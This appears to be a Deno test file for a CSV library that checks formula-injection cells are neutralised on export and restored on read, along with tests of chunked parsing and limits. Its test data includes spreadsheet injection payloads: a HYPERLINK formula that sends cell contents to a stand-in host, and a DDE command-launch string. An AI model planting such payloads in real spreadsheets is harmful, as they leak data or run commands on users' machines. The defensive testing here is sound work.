import {
  CsvRowReader,
  forEachCsvRow,
  formatCsvRows,
  neutralizeCell,
  parseCsvRows,
  restoreCell,
} from "../../src/data/csv.ts";
import { InputError } from "../../src/io/errors.ts";
import { assertEquals, assertThrows } from "../helpers/assert.ts";

const HOSTILE = [
  '=HYPERLINK("http://x.example/?a="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1)",
  "-2+3",
  "\tTAB",
  "\rCR",
  "'=already quoted",
];

Deno.test("text cells a spreadsheet would run are neutralised, and read back exactly", () => {
  const text = formatCsvRows([["product_id", "value"], ...HOSTILE.map((id) => [id, -2])], {
    neutralize: true,
  });
  const rows = parseCsvRows(text).slice(1);
  for (const [cell] of rows) assertEquals(cell.startsWith("'"), true, cell);
  assertEquals(rows.map(([cell]) => restoreCell(cell)), HOSTILE);
  assertEquals(rows.map(([, value]) => value), HOSTILE.map(() => "-2"), "numbers stay numbers");
  assertEquals(neutralizeCell("P001"), "P001");
  assertEquals(formatCsvRows([["=x"]]), "=x\n", "data files keep ids as they are");
});

Deno.test("Infinity and NaN are never written", () => {
  assertThrows(() => formatCsvRows([[Infinity]]), RangeError, "finite");
  assertThrows(() => formatCsvRows([[NaN]]), RangeError, "finite");
});

Deno.test("pieces cut anywhere give the rows of the whole text", () => {
  const text = 'a,b\n"x\ny",1\n"q""",2\n\nlast,3';
  const whole: [string[], number][] = [];
  forEachCsvRow(text, (fields, index) => whole.push([fields, index]));
  for (let cut = 0; cut <= text.length; cut++) {
    const rows: [string[], number][] = [];
    const reader = new CsvRowReader((fields, index) => rows.push([fields, index]));
    reader.push(text.slice(0, cut));
    reader.push(text.slice(cut));
    reader.end();
    assertEquals(rows, whole, `cut at ${cut}`);
  }
});

Deno.test("a line longer than the limit is an error naming the file and line", () => {
  const reader = new CsvRowReader(() => {}, { file: "big.csv", maxLineChars: 10 });
  reader.push("a,b\n");
  assertThrows(() => reader.push("x".repeat(11)), InputError, "big.csv", "line 2 is longer");
});
